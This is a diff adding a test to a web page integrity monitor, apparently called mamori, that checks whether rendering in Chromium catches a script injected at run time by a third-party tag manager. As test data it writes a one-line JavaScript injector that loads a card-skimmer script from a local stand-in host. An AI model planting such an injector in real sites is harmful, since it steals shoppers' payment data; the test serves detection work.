@@ -1116,6 +1116,36 @@ class WebSite(Base):
         self.assertEqual(len([f for f in json.loads(p.stdout)["findings"]
                               if f["module"] == "web"]), 11)
 
+    def test_render_sees_scripts_other_scripts_add(self):
+        # A tag manager from another origin (no integrity, so its content is not compared)
+        # starts loading a skimmer: invisible in the HTML, seen in Chromium.
+        gtm = os.path.join(self.cdn, "gtm.js")
+        spit(gtm, "window.dataLayer = [];\n")
+        self.page("shop.html", f'<html><head><script src="{self.cdn_url}/gtm.js"></script>'
+                               '</head><body><p>shop</p></body></html>')
+        start = self.url + "shop.html"
+        p = mamori("web", "baseline", "--render", "--no-sitemap", start, "--baseline",
+                   self.baseline, check=0)
+        self.assertTrue(json.loads(slurp(self.baseline))["options"]["render"])
+        self.assertEqual(self.check()["findings"], [])
+        spit(gtm, "var s = document.createElement('script');"
+                  "s.src = 'http://127.0.0.3:1/skim.js'; document.head.appendChild(s);\n")
+        doc = self.check()
+        self.assertEqual([(f["check"], f["asset"]) for f in doc["findings"]],
+                         [("new-script-origin", start)])
+        self.assertIn("http://127.0.0.3:1/skim.js, added at run time by another script",
+                      doc["findings"][0]["evidence"])
+        # Chromium missing: the check says so, records nothing as fixed, and goes on.
+        mamori("--store", self.db, "-q", "web", "check", "--baseline", self.baseline,
+               "--chromium", "/nonexistent/chromium", check=0)
+        p = mamori("--store", self.db, "--format", "json", "findings", "list", check=0)
+        self.assertEqual([(f["check"], f["state"]) for f in json.loads(p.stdout)["findings"]],
+                         [("new-script-origin", "new")])  # kept, not fixed
+        p = mamori("--store", self.db, "web", "check", "--baseline", self.baseline,
+                   "--chromium", "/nonexistent/chromium", check=0)
+        self.assertIn("Chromium not found", p.stdout)
+        self.assertNotIn("/tmp/mamori-render-", "".join(os.listdir("/tmp")))
+
     def test_mistakes_get_clear_errors(self):
         mamori("web", "baseline", "ftp://127.0.0.1/", check=2)
         p = mamori("web", "check", "--baseline", os.path.join(self.tmp, "none.json"), check=3)
